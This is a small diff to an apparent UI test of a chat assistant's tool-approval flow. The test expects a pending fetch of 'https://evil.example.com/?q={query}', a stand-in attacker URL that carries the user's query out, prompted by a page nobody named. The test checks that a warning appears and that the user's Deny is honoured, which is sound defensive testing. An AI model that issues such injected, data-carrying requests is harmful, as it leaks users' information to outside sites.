@@ -204,6 +204,6 @@ def test_a_page_that_nobody_named_asks_with_its_whole_address(chat: Chat, desk: 
     tool_calls.expect_state("awaiting_approval")
 
     expect(tool_calls.lines).to_have_text(f"Reading https://evil.example.com/?q={query}")
-    expect(tool_calls.all).to_contain_text("The site gets to know every word of this address.")
+    expect(tool_calls.all).to_contain_text("The site sees every word of this address.")
     tool_calls.say("Deny")
     tool_calls.expect_reply("complete")
